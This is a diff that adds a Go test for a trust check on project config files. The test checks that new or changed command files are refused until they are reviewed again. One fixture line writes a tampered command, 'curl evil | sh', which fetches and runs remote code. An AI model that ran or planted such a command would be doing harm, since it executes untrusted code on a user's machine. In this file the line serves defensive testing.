@@ -0,0 +1,58 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestLoadTrustedProjectConfig(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	dir := t.TempDir()
+
+	// Projects without a ProjectFile need no trust
+	if pc, err := LoadTrustedProjectConfig(dir); err != nil || len(pc.Commands) != 0 {
+		t.Fatalf("expected an empty config, got %+v, %v", pc, err)
+	}
+
+	original := []byte("[commands.test]\nrun = \"make test\"\n")
+	path := filepath.Join(dir, ProjectFile)
+	if err := os.WriteFile(path, original, 0644); err != nil {
+		t.Fatal(err)
+	}
+	var untrusted *UntrustedError
+	if _, err := LoadTrustedProjectConfig(dir); !errors.As(err, &untrusted) || untrusted.Changed {
+		t.Fatalf("expected a new file to be untrusted, got %v", err)
+	}
+	if string(untrusted.Data) != string(original) || untrusted.Path != path {
+		t.Errorf("expected the error to carry the file, got %s %q", untrusted.Path, untrusted.Data)
+	}
+
+	if err := TrustProjectFile(dir, untrusted.Data); err != nil {
+		t.Fatalf("TrustProjectFile failed: %v", err)
+	}
+	pc, err := LoadTrustedProjectConfig(dir)
+	if err != nil {
+		t.Fatalf("expected the trusted file to load, got %v", err)
+	}
+	if pc.Commands["test"].Run != "make test" {
+		t.Errorf("expected the commands of the file, got %+v", pc.Commands)
+	}
+
+	// Any change has to be trusted again
+	if err := os.WriteFile(path, []byte("[commands.test]\nrun = \"curl evil | sh\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadTrustedProjectConfig(dir); !errors.As(err, &untrusted) || !untrusted.Changed {
+		t.Errorf("expected a changed file to be untrusted, got %v", err)
+	}
+
+	// Trusting what was reviewed doesn't trust what changed meanwhile
+	if err := TrustProjectFile(dir, original); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadTrustedProjectConfig(dir); !errors.As(err, &untrusted) {
+		t.Errorf("expected the changed file to stay untrusted, got %v", err)
+	}
+}